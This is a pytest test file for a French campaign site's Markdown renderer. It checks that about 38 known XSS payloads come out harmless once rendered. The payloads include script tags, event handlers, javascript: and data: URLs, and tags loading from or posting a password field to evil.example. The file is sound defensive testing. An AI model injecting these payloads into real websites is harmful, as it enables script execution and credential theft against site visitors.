"""Post bodies are written by editors: whatever they paste, the rendered HTML is harmless."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from campaign.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown
from news.models import Post
from tests.news.factories import make_post

# Known payloads (OWASP cheat sheet, PortSwigger, Markdown-specific ones).
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example/"></iframe>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">clic</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name="mot-de-passe"><button>OK</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<style>body { display: none }</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "[clic](javascript:alert(1))",
    "[clic](JaVaScRiPt:alert(1))",
    "[clic](javascript&colon;alert(1))",
    "[clic](&#106;avascript:alert(1))",
    "[clic](java\tscript:alert(1))",
    "[clic](vbscript:msgbox(1))",
    "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[clic](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[clic][ref]\n\n[ref]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](https://tracker.example/pixel.gif)",
    "![x](//tracker.example/pixel.gif)",
    "![x](/media/../admin/)",
    '[clic](https://example.org/" onclick="alert(1))',
    '![x" onerror="alert(1)](/media/posts/a.png)',
    '[clic](https://example.org/ "titre\\" onmouseover=\\"alert(1)")',
]

URL_ATTRIBUTES = {"href", "src"}


class Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def elements(html):
    parser = Elements()
    parser.feed(html)
    return parser.elements


def assert_harmless(html, media_url="/media/"):
    for tag, attributes in elements(html):
        assert tag in ALLOWED_TAGS, f"<{tag}> kept in {html!r}"
        assert set(attributes) <= ALLOWED_ATTRIBUTES.get(tag, set()), f"attributes {attributes} kept in {html!r}"
        for name in URL_ATTRIBUTES & set(attributes):
            url = attributes[name]
            assert urlsplit(url).scheme in ("", "http", "https", "mailto"), f"{name}={url!r} kept"
            if tag == "img":
                assert url.startswith(media_url) and ".." not in url, f"image from {url!r}"


def test_there_are_at_least_twenty_payloads():
    assert len(XSS_PAYLOADS) >= 20


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_is_harmless_once_rendered(payload):
    html = render_markdown(f"Un paragraphe.\n\n{payload}\n\nUn autre.")

    assert_harmless(html)
    assert payload not in html or "<" not in payload  # raw HTML never comes through as markup
    assert "<script" not in html.lower()
    assert "javascript:" not in "".join(value or "" for _, attrs in elements(html) for value in attrs.values())


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_in_a_post_is_harmless_on_its_page(client, pages, payload):
    post = make_post("Essai", body=payload, summary=payload)

    html = client.get(post.get_absolute_url()).content.decode()

    article = html[html.index('<article class="post"') : html.index("</article>")]
    assert_harmless(article.split('<div class="prose">', 1)[1])
    for tag, attributes in elements(article):
        assert tag in ALLOWED_TAGS | {"article", "h1", "p", "time", "span", "div"}
        assert not any(name.startswith("on") or name == "style" for name in attributes)
        assert not any("javascript:" in (value or "").lower() for value in attributes.values())


def test_allowed_markdown_renders_as_expected(settings):
    settings.SITE_URL = "https://retrait-lsun.example"
    settings.MEDIA_URL = "/media/"
    source = "\n".join(
        [
            "# Rassemblement",
            "",
            "Un *texte* **fort** avec `code` et un [lien](https://example.org/) "
            "et un [autre](/appel/) et [écrire](mailto:contact@example.org).",
            "",
            "- premier",
            "- second",
            "",
            "1. un",
            "2. deux",
            "",
            "> Une citation.",
            "",
            "| Ville | Heure |",
            "| --- | --- |",
            "| Paris | 14 h |",
            "",
            "![Manifestation](/media/posts/manif.jpg)",
            "",
            "---",
        ]
    )

    assert render_markdown(source) == (
        "<h2>Rassemblement</h2>\n"
        "<p>Un <em>texte</em> <strong>fort</strong> avec <code>code</code> et un "
        '<a href="https://example.org/" rel="noopener nofollow">lien</a> et un <a href="/appel/">autre</a> '
        'et <a href="mailto:contact@example.org">écrire</a>.</p>\n'
        "<ul>\n<li>premier</li>\n<li>second</li>\n</ul>\n"
        "<ol>\n<li>un</li>\n<li>deux</li>\n</ol>\n"
        "<blockquote>\n<p>Une citation.</p>\n</blockquote>\n"
        "<table>\n<thead>\n<tr>\n<th>Ville</th>\n<th>Heure</th>\n</tr>\n</thead>\n"
        "<tbody>\n<tr>\n<td>Paris</td>\n<td>14 h</td>\n</tr>\n</tbody>\n</table>\n"
        '<p><img src="/media/posts/manif.jpg" alt="Manifestation"></p>\n'
        "<hr>"
    )


def test_saved_post_keeps_its_markdown_and_stores_the_safe_html(db):
    post = make_post("Essai", body="**Fort** <script>alert(1)</script>")

    stored = Post.objects.get(pk=post.pk)

    assert stored.body == "**Fort** <script>alert(1)</script>"
    assert stored.body_html == "<p><strong>Fort</strong> &lt;script&gt;alert(1)&lt;/script&gt;</p>"
    assert stored.body_text == "Fort <script>alert(1)</script>"


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("## Où ?\n\n### Quand ?", "<h2>Où ?</h2>\n<h3>Quand ?</h3>"),
        ("# Où ?\n\n## Quand ?", "<h2>Où ?</h2>\n<h3>Quand ?</h3>"),
        ("### Seul", "<h2>Seul</h2>"),
        ("###### Six", "<h2>Six</h2>"),
        ("# Un\n\n###### Six", "<h2>Un</h2>\n<h6>Six</h6>"),
    ],
)
def test_the_top_headings_of_a_text_become_h2_under_the_page_title(source, expected):
    assert render_markdown(source) == expected
